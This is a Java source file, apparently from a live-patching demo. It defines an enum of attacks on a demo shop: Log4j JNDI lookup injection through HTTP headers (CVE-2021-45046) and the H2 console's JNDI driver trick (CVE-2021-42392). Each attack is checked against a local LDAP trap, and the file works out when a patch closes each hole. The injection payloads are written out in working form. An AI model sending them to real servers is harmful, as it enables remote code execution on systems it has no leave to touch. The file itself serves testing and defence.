package dev.jlp.demo;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Set;

/** A way to make the shop call a machine of the attacker's. */
enum Attack {
    /** The message of the log event holds a lookup; the layout has {@code %m{lookups}}. */
    MESSAGE(Fix.LOG4J, "CVE-2021-45046, log message", "User-Agent: ${jndi:ldap://…}") {
        @Override
        void strike(Shop shop, String ldap) throws IOException {
            shop.request("/orders/1", Map.of("User-Agent", "${jndi:" + ldap + "}"));
        }

        @Override
        Closure closure(Set<String> patched) {
            // A layout holds the converters that this factory method made: the next layout has
            // others.
            Closure jndi = jndiClosure(patched);
            return jndi == Closure.NONE
                            && patched.contains(
                                    CORE + "pattern.MessagePatternConverter.newInstance")
                    ? Closure.AFTER_RELOAD
                    : jndi;
        }
    },
    /** A value of the thread context holds a lookup; the layout has {@code ${ctx:user}}. */
    CONTEXT(Fix.LOG4J, "CVE-2021-45046, thread context", "X-User: ${jndi:ldap://…}") {
        @Override
        void strike(Shop shop, String ldap) throws IOException {
            shop.request("/orders/1", Map.of("X-User", "${jndi:" + ldap + "}"));
        }

        @Override
        Closure closure(Set<String> patched) {
            return jndiClosure(patched);
        }
    },
    /** The console's connection test takes a driver class that is a naming context. */
    DATABASE(
            Fix.H2,
            "CVE-2021-42392, H2 console",
            "driver=javax.naming.InitialContext&url=ldap://…") {
        @Override
        void strike(Shop shop, String ldap) throws IOException {
            String url = URLEncoder.encode(ldap, StandardCharsets.UTF_8);
            shop.request(
                    "/admin/datasource?driver=javax.naming.InitialContext&url=" + url, Map.of());
        }

        @Override
        Closure closure(Set<String> patched) {
            return patched.contains("org.h2.util.JdbcUtils.getConnection")
                    ? Closure.AT_ONCE
                    : Closure.NONE;
        }
    };

    private static final String CORE = "org.apache.logging.log4j.core.";

    private final Fix fix;
    private final String title;
    private final String vehicle;

    Attack(Fix fix, String title, String vehicle) {
        this.fix = fix;
        this.title = title;
        this.vehicle = vehicle;
    }

    /** The step between releases that closes the hole. */
    Fix fix() {
        return fix;
    }

    String title() {
        return title;
    }

    /** What the attacker sends. */
    String vehicle() {
        return vehicle;
    }

    /** Whether the shop can be made to call the attacker. */
    boolean works(Shop shop) throws IOException {
        try (Trap trap = new Trap()) {
            strike(shop, "ldap://127.0.0.1:" + trap.port() + "/a");
            return trap.sprung() > 0;
        }
    }

    /** Makes the shop call the address if the hole is open; it has done so when this returns. */
    abstract void strike(Shop shop, String ldap) throws IOException;

    /** What it takes until the hole is closed, given the methods that are patched as {@code class.method}. */
    abstract Closure closure(Set<String> patched);

    /** What it takes until log4j asks no naming service, whatever the way to it. */
    private static Closure jndiClosure(Set<String> patched) {
        // JndiLookup asks for a new manager each time; an Interpolator keeps the lookups it was
        // made with.
        if (patched.contains(CORE + "net.JndiManager$JndiManagerFactory.createManager")) {
            return Closure.AT_ONCE;
        }
        return patched.contains(CORE + "lookup.Interpolator.<init>")
                ? Closure.AFTER_RELOAD
                : Closure.NONE;
    }

    /** How a patch of these methods comes to close a hole in a program that has been running. */
    enum Closure {
        /** The methods that were patched do not close it. */
        NONE,
        /** The next use runs the new body. */
        AT_ONCE,
        /** Objects made by the old body stay as they were made, until logging is configured anew. */
        AFTER_RELOAD
    }
}
